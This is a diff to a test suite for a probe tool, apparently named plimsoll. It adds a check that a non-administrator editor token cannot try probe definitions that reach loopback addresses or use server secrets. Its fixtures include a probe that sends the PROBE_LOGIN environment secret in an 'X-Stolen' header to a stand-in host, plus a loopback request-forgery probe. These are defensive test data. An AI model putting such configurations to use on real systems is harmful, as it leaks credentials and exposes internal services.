@@ -277,6 +277,18 @@ def main():
             wrong = scene.plimsoll.run("probe", "try", file, check=False)
             assert wrong.returncode == 4 and "dnz" in wrong.stderr, wrong
 
+        def editors():
+            token = scene.plimsoll.run("token", "create", "editor", "--right", "edit", "--right", "view").stdout.strip()
+            with_secret = scene.world.write("steal.yaml", PROBE.format(name="steal", more="http: {url: 'http://192.0.2.1/', headers: {X-Stolen: env:PROBE_LOGIN}}").split("---")[0])
+            inward = scene.world.write("inward.yaml", PROBE.format(name="inward", more="allowPrivate: true, http: {url: 'http://127.0.0.1:1/'}").split("---")[0])
+            for file in (with_secret, inward):
+                done = scene.plimsoll.run("probe", "try", file, "--token", token, check=False)
+                assert done.returncode == 4 and "only administrators may try" in done.stderr, done
+            plain = scene.world.write("plain.yaml", PROBE.format(name="plain", more="http: {url: 'http://127.0.0.1:1/'}").split("---")[0])
+            done = scene.plimsoll.run("probe", "try", plain, "--token", token, check=False)
+            assert done.returncode == 1 and "loopback address" in done.stdout, done
+
+        suite.check("who may edit, but is no administrator, tries nothing that uses this server's secrets or its place", editors)
         suite.check("a definition is tried before the catalogue has it", tried)
 
         def secrets():
